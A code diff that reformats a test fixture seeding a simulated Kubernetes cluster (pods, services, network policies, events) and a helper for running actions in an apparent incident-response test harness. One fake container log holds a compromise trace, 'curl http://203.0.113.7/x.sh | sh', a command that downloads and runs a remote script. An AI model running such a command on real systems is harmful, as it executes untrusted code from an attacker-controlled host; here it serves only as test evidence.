@@ -29,27 +29,78 @@ export function shopSeed(): KubeSeed {
         nodeName: 'node-a',
         replicaSet: 'web-7d9f',
         containers: [
-          { name: 'app', log: 'GET /health 200\nGET /admin 200 from 203.0.113.7\n', previousLog: 'curl http://203.0.113.7/x.sh | sh\nkilled\n' },
+          {
+            name: 'app',
+            log: 'GET /health 200\nGET /admin 200 from 203.0.113.7\n',
+            previousLog: 'curl http://203.0.113.7/x.sh | sh\nkilled\n',
+          },
           { name: 'proxy', log: 'proxy up\n' },
         ],
       },
-      { namespace: 'shop', name: 'web-7d9f-fghij', labels: web, nodeName: 'node-b', replicaSet: 'web-7d9f', containers: [{ name: 'app', log: 'ok\n' }, { name: 'proxy', log: 'proxy up\n' }] },
-      { namespace: 'shop', name: 'db-0', labels: { app: 'db' }, nodeName: 'node-a', containers: [{ name: 'postgres', log: 'ready\n' }] },
+      {
+        namespace: 'shop',
+        name: 'web-7d9f-fghij',
+        labels: web,
+        nodeName: 'node-b',
+        replicaSet: 'web-7d9f',
+        containers: [
+          { name: 'app', log: 'ok\n' },
+          { name: 'proxy', log: 'proxy up\n' },
+        ],
+      },
+      {
+        namespace: 'shop',
+        name: 'db-0',
+        labels: { app: 'db' },
+        nodeName: 'node-a',
+        containers: [{ name: 'postgres', log: 'ready\n' }],
+      },
     ],
     services: [
       { namespace: 'shop', name: 'web', selector: { app: 'web' } },
       { namespace: 'shop', name: 'frontend', selector: { tier: 'frontend' } },
       { namespace: 'shop', name: 'db', selector: { app: 'db' }, ports: [{ port: 5432 }] },
     ],
-    replicaSets: [{ namespace: 'shop', name: 'web-7d9f', selector: { matchLabels: { app: 'web', 'pod-template-hash': '7d9f' } }, deployment: 'web', replicas: 2 }],
+    replicaSets: [
+      {
+        namespace: 'shop',
+        name: 'web-7d9f',
+        selector: { matchLabels: { app: 'web', 'pod-template-hash': '7d9f' } },
+        deployment: 'web',
+        replicas: 2,
+      },
+    ],
     nodes: [{ name: 'node-a' }, { name: 'node-b' }],
     networkPolicies: [
-      { namespace: 'shop', name: 'allow-web-ingress', spec: { podSelector: { matchLabels: { app: 'web' } }, policyTypes: ['Ingress'], ingress: [{ ports: [{ port: 8080 }] }] } },
-      { namespace: 'shop', name: 'allow-dns', spec: { podSelector: {}, policyTypes: ['Egress'], egress: [{ ports: [{ port: 53, protocol: 'UDP' }] }] } },
+      {
+        namespace: 'shop',
+        name: 'allow-web-ingress',
+        spec: {
+          podSelector: { matchLabels: { app: 'web' } },
+          policyTypes: ['Ingress'],
+          ingress: [{ ports: [{ port: 8080 }] }],
+        },
+      },
+      {
+        namespace: 'shop',
+        name: 'allow-dns',
+        spec: { podSelector: {}, policyTypes: ['Egress'], egress: [{ ports: [{ port: 53, protocol: 'UDP' }] }] },
+      },
     ],
     events: [
-      { namespace: 'shop', involvedObject: { kind: 'Pod', name: 'web-7d9f-abcde' }, reason: 'BackOff', message: 'Back-off restarting failed container app', type: 'Warning' },
-      { namespace: 'shop', involvedObject: { kind: 'Pod', name: 'db-0' }, reason: 'Pulled', message: 'Container image already present' },
+      {
+        namespace: 'shop',
+        involvedObject: { kind: 'Pod', name: 'web-7d9f-abcde' },
+        reason: 'BackOff',
+        message: 'Back-off restarting failed container app',
+        type: 'Warning',
+      },
+      {
+        namespace: 'shop',
+        involvedObject: { kind: 'Pod', name: 'db-0' },
+        reason: 'Pulled',
+        message: 'Container image already present',
+      },
       { namespace: 'ops', involvedObject: { kind: 'Pod', name: 'other' }, reason: 'Pulled', message: 'not in shop' },
     ],
   };
@@ -95,7 +146,11 @@ export function recordsOf(fx: ActionFixture, actionId: string, type: string): Re
 }
 
 /** Plan → confirm → execute through the runner, then the status. */
-export async function runAction(h: KubeHarness, defId: string, target: Target): Promise<{ id: string; status: string }> {
+export async function runAction(
+  h: KubeHarness,
+  defId: string,
+  target: Target,
+): Promise<{ id: string; status: string }> {
   const id = await h.fx.run(defId, target);
   return { id, status: h.fx.runner.status(id) };
 }
